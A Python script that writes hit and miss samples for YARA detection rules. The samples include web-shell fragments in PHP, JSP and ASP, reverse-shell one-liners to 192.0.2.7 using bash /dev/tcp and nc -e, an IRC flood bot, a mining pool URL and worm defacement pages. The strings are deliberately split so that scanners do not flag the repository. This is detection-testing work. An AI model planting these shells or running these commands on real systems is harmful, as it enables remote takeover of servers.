#!/usr/bin/python3
"""samples.py DIR: for each shipped YARA rule, files that it hits and files that only look so.

Writes DIR/hits/RULE/N.EXT and DIR/misses/RULE/N.EXT. The fragments do nothing: they lack an
opening, an end or a variable, and are put together here from pieces, so that no scanner stops at
this repository. In a text, ~x~ stands for a word of the table below, and ~~ for nothing."""
import os
import sys

WORDS = {
    "e": ("ev", "al"), "a": ("ass", "ert"), "s": ("sys", "tem"), "x": ("shell", "_exec"),
    "pt": ("pass", "thru"), "b": ("base64", "_decode"), "z": ("gz", "inflate"),
    "P": ("$_PO", "ST"), "G": ("$_GE", "T"), "R": ("$_REQ", "UEST"), "C": ("$_COO", "KIE"),
    "F": ("$_FI", "LES"), "php": ("<?", "php"), "rt": ("getRun", "time()"),
    "gp": ("request.getPara", "meter"), "ws": ("WScr", "ipt.Shell"), "ex": ("ex", "ec"),
    "tcp": ("/dev/", "tcp"), "poi": ("Poiz", "onBOx"), "mail": ("sysadm", "cn@yahoo.com.cn"),
    "cuc": ("/dev/", "cuc"), "hack": ("Hack", "ed"), "str": ("stra", "tum"), "dc": ("define", "Class"),
    "muf": ("move_", "uploaded_file"), "fpc": ("file_put", "_contents"), "o": ("os.", "system"),
    "chi": ("Chin", "ese"), "nim": ("readme", ".eml"), "cuf": ("call_user", "_func"),
}

HITS = {
    "php_runs_request": [
        ("php", "~php~ @~e~(~P~['q']); ?>"),
        ("php", "~php~ echo 1; ~s~( ~G~[\"c\"] );"),
        ("php", "<?= ~x~(~b~(~R~['c'])) ?>"),
        ("inc", "~php~\n  ~pt~(stripslashes(trim(~C~['c'])));"),
        ("php", "~php~ ~e~(~b~($_SERVER['HTTP_X_Q']));"),
        ("phtml", "~php~ ~a~(file_get_contents('php://input'));"),
        ("php", "~php~ ~e~(${'_" + "POST'}['q']);"),
    ],
    "php_request_names_function": [
        ("php", "~php~ ~G~['f'](~P~['a']);"),
        ("php", "~php~ @~R~[f](~R~[a]);"),
        ("php", "~php~ ~cuf~(~G~['f'], ~G~['a']);"),
        ("php", "~php~ array_map(\"~a~\", (array)~P~['q']);"),
        ("php", "~php~ array_map(~G~['f'], ~G~['a']);"),
    ],
    "php_request_in_variables": [
        ("php", "~php~ $cmd = ~G~['cmd'];\necho '<pre>';\n~s~($cmd . ' 2>&1');"),
        ("php", "~php~ $code=~b~(~P~['c']);\n@~e~($code);"),
    ],
    "php_replaces_and_runs": [
        ("php", "~php~ preg_replace('/.*/e', ~P~['q'], '');"),
        ("php", "~php~ preg_replace(\"#x#ie\", \"~e~(1)\", 'x');"),
    ],
    "php_backticks_of_request": [("php", "~php~ echo `~G~[c]`;"), ("php", "~php~ $o = `ls ~R~[c] 2>&1`;")],
    "php_writes_where_told": [
        ("php", "~php~ ~fpc~(~G~['f'], ~P~['t']);"),
        ("php", "~php~ $h = fopen(~P~['n'], 'w');"),
    ],
    "php_hidden_program": [
        ("php", "~php~ ~e~(~z~(~b~('c29tZXRoaW5n')));"),
        ("php", "~php~ ~e~('?>'.~b~($x));"),
        ("php", "~php~ $f = create_function('', ~b~($q));"),
    ],
    "php_hidden_names": [
        ("php", "~php~ $f = \"\\x65\\x76" + "\\x61\\x6c\";"),
        ("php", "~php~ $f = 'as'.'se~~rt'; $f($q);"),
        ("php", "~php~ $f = 'base' . '64_" + "decode';"),
        ("php", "~php~ $k=str_re~~place('zq','','czqrzqeazqte_zqfunczqtion');$m=$k('',$n);"),
    ],
    "php_shell_by_name": [
        ("php", "~php~ $default_action = 'Files" + "Man'; ~e~($x);"),
        ("php", "~php~ // r57" + "shell\n~pt~($x);"),
        ("php", "~php~ $title = 'b37" + "4k'; ~s~($x);"),
    ],
    "php_upload_and_no_more": [
        ("php", "~php~ if(~muf~(~F~['f']['tmp_name'], ~F~['f']['name'])) echo 'ok';"),
        ("php", "~php~ @copy(~F~[f][tmp_name], 'x/'.~F~[f][name]);"),
    ],
    "php_includes_request": [("php", "~php~ include(~G~['page']);"), ("php", "~php~\n@require_once ~R~['f'];")],
    "php_in_a_picture": [
        ("gif", "GIF89a\x01\x01 ~php~ ~e~($q);"),
        ("png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40 + b"<?" + b"= `x`; sys" + b"tem('x');"),
        ("jpg", b"\xff\xd8\xff\xe0" + b"\x07" * 90 + b"<?" + b"php @ev" + b"al($x);"),
    ],
    "htaccess_runs_pictures": [
        ("htaccess", "AddT~~ype application/x-httpd-php .jpg\n"),
        ("htaccess", "<FilesMatch \"\\.(gif|png)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n"),
    ],
    "jsp_runs_request": [
        ("jsp", "<% Runtime.~rt~.~ex~(~gp~(\"q\")); %>"),
        ("jspx", "<jsp:scriptlet> String c = ~gp~(\"cmd\"); Process p = Runtime.~rt~.~ex~(c);"),
        ("jsp", "<%= new ProcessBuilder(~gp~(\"a\")) %>"),
    ],
    "jsp_loads_classes": [
        ("jsp", "<%! class U extends ClassLoader{ Class g(byte[] b){return super.~dc~(b,0,1);}} %>"
                "<% Cipher.getInstance(\"AES\"); request.getReader(); %>"),
    ],
    "jsp_writes_where_told": [
        ("jsp", "<% new FileOutputStream(application.getRealPath(\"/\")+~gp~(\"f\"))"
                ".write(~gp~(\"t\").getBytes()); %>"),
    ],
    "asp_runs_request": [
        ("asp", "<%~e~ request(\"q\")%>"),
        ("asp", "<% Exe~~cute(Request.Form(\"q\")) %>"),
        ("aspx", "<%@ Pa~~ge Language=\"Jscript\"%><%~e~(Request.Item[\"q\"],\"unsafe\");%>"),
    ],
    "asp_shell_object": [
        ("asp", "<% Set o = Server.CreateObject(\"~ws~\")\nSet p = o.~ex~(\"%comspec% /c \" & Request(\"c\")) %>"),
        ("asp", "<object runat=server id=o classid=\"clsid:72C24DD5-D70A-438B-8A42-" + "98424B88AFB8\"></object>"
                "<% o.run (request.form(\"c\")) %>"),
    ],
    "aspx_starts_programs": [
        ("aspx", "<%@ Pa~~ge Language=\"C#\" %><% var i = new Process" + "StartInfo();"
                 " i.FileName = \"cmd.exe\"; i.Arguments = \"/c \" + Request[\"c\"]; %>"),
    ],
    "aspx_loads_programs": [
        ("aspx", "<%@ Pa~~ge Language=\"C#\" %><% Assembly" + ".Load(Convert.FromBase64String(Request.Form[\"q\"])); %>"),
    ],
    "asp_writes_where_told": [
        ("asp", "<% Set f = fs.Create~~TextFile(Server.MapPath(Request(\"f\")))\nf.Wri~~te(Request(\"t\")) %>"),
        ("aspx", "<%@ Pa~~ge %><% File.Write~~AllText(Request.Form[\"f\"], Request.Form[\"t\"]); %>"),
    ],
    "perl_runs_request": [
        ("cgi", "#!/usr/bin/perl\nuse CGI;\nprint ~s~($q->param('c'));"),
        ("pl", "#!/usr/bin/perl\nprint `$ENV{QUERY_STRING}`;"),
        ("pl", "#!/usr/bin/perl -w\n$cmd = $q->param('cmd');\nprint \"x\";\nopen(P, \"$cmd|\");"),
    ],
    "python_runs_request": [
        ("py", "#!/usr/bin/python3\nimport os\n~o~(form.getvalue('c'))"),
        ("py", "import flask\ncmd = request.args.get('q')\nx = 1\nsubprocess.check_output(cmd, shell=True)"),
    ],
    "reverse_shell": [
        ("sh", "#!/bin/bash\nbash -i >& ~tcp~/192.0.2.7/4444 0>&1\n"),
        ("sh", "mkf~~ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 9 > /tmp/f"),
        ("sh", "n~~c 192.0.2.7 4444 -e /bin/sh"),
        ("py", "import socket\ns.connect((\"192.0.2.7\", 9))\nos.du~~p2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
               "subprocess.call([\"/bin/sh\", \"-i\"])"),
        ("pl", "connect(S, $a);\nopen(STD~~IN, \">&S\");\n~ex~(\"/bin/sh -i\");"),
        ("php", "~php~ $s = fsock~~open('192.0.2.7', 9);\nproc_open('/bin/sh -i', $d, $p);"),
    ],
    "irc_bot": [
        ("pl", "#!/usr/bin/perl\nuse IO::Socket::INET;\nprint $s \"NICK x\\nJOIN #y\\n\";\n"
               "print $s \"PRIVMSG #y :udp" + "flood\";\n~s~($c);"),
    ],
    "coin_miner": [("json", "{\"url\": \"~str~+tcp://pool.example:3333\", \"algo\": \"x\"}")],
    "page_of_sadmind_iis": [
        ("asp", "<html><body bgcolor=black><p>fuck " + "USA Government</p><p>fuck ~poi~</p></body></html>"),
        ("htm", "<html><font color=red>~poi~<br>contact:~mail~</html>"),
    ],
    "page_of_code_red": [
        ("htm", "<html><body>HELLO! Welcome to http://www.wo" + "rm.com! <hr>~hack~ By ~chi~!</body></html>"),
    ],
    "page_of_nimda": [
        ("htm", "<html>x</html><script>window.open(\"~nim~\", null, \"resizable=no,top=60" + "00,left=6000\")</script>"),
    ],
    "script_of_sadmind_iis": [("sh", "#!/bin/sh\nnohup ~cuc~/time.sh &\n"), ("sh", "#!/bin/sh\nls /dev/" + "cub/x\n")],
    "page_of_defacers": [
        ("html", "<html><head><title>~hack~ by nobody</title>"),
        ("html", "<html><body><h1><font color=red><b>This site was Def" + "aced By x</b></font></h1>"),
    ],
}

MISSES = {
    "php_runs_request": [
        ("php", "~php~ $db->~ex~(~P~['q']); Thing::~e~(~G~['x']);"),
        ("php", "~php~ function my_~s~($x) {} my_~s~(~G~['x']); // ~e~ of ~P~"),
        ("txt", "~e~(~P~['q']) in a text about PHP"),
        ("php", "~php~ ~ex~('ls ' . escapeshellarg($dir)); $a = ~P~['x'];"),
    ],
    "php_request_names_function": [
        ("php", "~php~ array_map('trim', ~P~['list']); array_filter(~G~['ids']);"),
        ("php", "~php~ if (isset(~G~['a']) && f(~G~['b'])) {}"),
        ("php", "~php~ usort($list, 'strcmp'); ~cuf~($known[~G~['f']]);"),
    ],
    "php_request_in_variables": [
        ("php", "~php~ $cmd = ~G~['cmd'];\nswitch ($cmd) { case 'list': break; }"),
        ("php", "~php~ $cmd = 'uptime';\n~s~($cmd);"),
    ],
    "php_replaces_and_runs": [("php", "~php~ preg_replace('/[^a-z]/i', '', ~P~['q']);")],
    "php_backticks_of_request": [
        ("php", "~php~ /* The field `~G~['page']` is not used. */ echo `uptime`;"),
        ("php", "~php~ $sql = \"SELECT `id` FROM `t` WHERE `x` = \" . (int)~G~['x'] . ' AND `y`';"),
    ],
    "php_writes_where_told": [("php", "~php~ ~fpc~($dir . '/cache', ~P~['t']); fopen($name, 'w');")],
    "php_hidden_program": [
        ("php", "~php~ $x = ~b~($row['data']); $y = ~z~(substr($x, 10));"),
        ("php", "~php~ // never use ~e~ with ~b~\n$this->~e~(~b~($x));"),
    ],
    "php_hidden_names": [
        ("php", "~php~ $s = 'as' . 'section'; $b = 'base' . '64'; $c = \"\\x65\\x76\";"),
        ("php", "~php~ $x = str_replace('-', '', 'a-b-c-d-e-f-g'); $y = $f($x, 1);"),
    ],
    "php_shell_by_name": [("php", "~php~ $list = array('r57" + "shell', 'b37" + "4k'); // names to refuse")],
    "php_upload_and_no_more": [
        ("php", "~php~ if (!getimagesize(~F~['f']['tmp_name'])) die;\n"
                "~muf~(~F~['f']['tmp_name'], ~F~['f']['name']);"),
        ("php", "~php~ ~muf~(~F~['f']['tmp_name'], $dir . '/' . $id . '.bin');"),
    ],
    "php_includes_request": [
        ("php", "~php~ include($pages[~G~['page']]); // include ~G~ never"),
    ],
    "php_in_a_picture": [
        ("gif", "GIF89a\x01\x01 no program here"),
        ("php", "~php~ header('Content-Type: image/gif'); echo 'GIF89a'; ~e~($x);"),
    ],
    "htaccess_runs_pictures": [
        ("htaccess", "AddType image/webp .webp\nAddType application/x-httpd-php .php .phtml\n"),
        ("htaccess", "<FilesMatch \"\\.php$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n"),
    ],
    "jsp_runs_request": [
        ("jsp", "<% String name = ~gp~(\"name\"); Runtime.~rt~.freeMemory(); %>"),
        ("java", "Runtime.~rt~.~ex~(~gp~(\"cmd\"));"),
    ],
    "jsp_loads_classes": [("jsp", "<%! class U extends ClassLoader {} %><% request.getReader(); %>")],
    "jsp_writes_where_told": [("jsp", "<% out.write(~gp~(\"t\")); new FileOutputStream(\"/tmp/x\"); %>")],
    "asp_runs_request": [
        ("asp", "<% conn.Execute(sql & Request(\"id\")) %>"),
        ("asp", "<% Server.Execute(\"menu.asp\") : x = Request(\"q\") %>"),
        ("vbs", "Exe~~cute Request(\"q\")"),
    ],
    "asp_shell_object": [("asp", "<% Set c = Server.CreateObject(\"ADODB.Connection\")\nc.run(Request(\"x\")) %>")],
    "aspx_starts_programs": [("aspx", "<%@ Pa~~ge Language=\"C#\" %><% lblProcess.Text = Request[\"c\"]; %>")],
    "aspx_loads_programs": [("aspx", "<%@ Pa~~ge Language=\"C#\" %><% Convert.FromBase64String(Request.Form[\"q\"]); %>")],
    "asp_writes_where_told": [
        ("asp", "<% Set f = fs.CreateTextFile(Server.MapPath(\"log.txt\"))\nf.Wri~~te(Request(\"t\")) %>"),
    ],
    "perl_runs_request": [
        ("cgi", "#!/usr/bin/perl\nuse CGI;\nmy $name = $q->param('name');\n~s~('date');\nprint \"Hello $name\";"),
        ("cgi", "#!/usr/bin/perl\nmy $code = $q->param('code');\nif ($code eq 'a') { print `date`; }"),
    ],
    "python_runs_request": [
        ("py", "import os\n~o~('date')\nname = request.args.get('name')"),
        ("py", "import re\ncode = request.args.get('code')\nif code == 'x':\n    evaluate(code)"),
    ],
    "reverse_shell": [
        ("sh", "#!/bin/bash\n# is the port open?\n(: > ~tcp~/127.0.0.1/80) 2>/dev/null && echo yes\nbash -i\n"),
        ("sh", "nc -l 9 > file; nc -z host 80; mkfifo /tmp/p; cat /tmp/p"),
        ("py", "import socket\ns.connect((\"127.0.0.1\", 9))\nos.dup2(log.fileno(), 1)\n"),
    ],
    "irc_bot": [
        ("pl", "#!/usr/bin/perl\nuse IO::Socket::INET;\nprint $s \"NICK x\\nJOIN #y\\n\";\n"
               "print $s \"PRIVMSG #y :hello\";\n~s~('date'); # no flooding"),
    ],
    "coin_miner": [("txt", "pools speak ~str~+tcp://pool.example:3333")],
    "page_of_sadmind_iis": [("html", "<html><h1>On the worm of 2001</h1>Its page names ~poi~.</html>")],
    "page_of_code_red": [("html", "<html>Code Red wrote: ~hack~ By ~chi~.</html>")],
    "page_of_nimda": [("html", "<html><script>window.open(\"help.html\", null, \"top=60,left=60\")</script>")],
    "script_of_sadmind_iis": [("sh", "#!/bin/sh\n# a check for the worm\nls -d ~cuc~ 2>/dev/null\n")],
    "page_of_defacers": [
        ("html", "<html><title>How a site is def" + "aced, and by whom</title><h1>News</h1>"),
        ("html", "<html><title>News</title><p>A site was ~hack~ by somebody.</p>"),
    ],
}


def put(text):
    if isinstance(text, bytes):
        return text
    text = text.replace("~~", "")
    for key, pieces in WORDS.items():
        text = text.replace("~%s~" % key, "".join(pieces))
    return text.encode("latin-1")


def main():
    for kind, table in (("hits", HITS), ("misses", MISSES)):
        for rule, samples in table.items():
            folder = os.path.join(sys.argv[1], kind, rule)
            os.makedirs(folder)
            for number, (extension, text) in enumerate(samples):
                with open(os.path.join(folder, "%d.%s" % (number, extension)), "wb") as out:
                    out.write(put(text))


main()
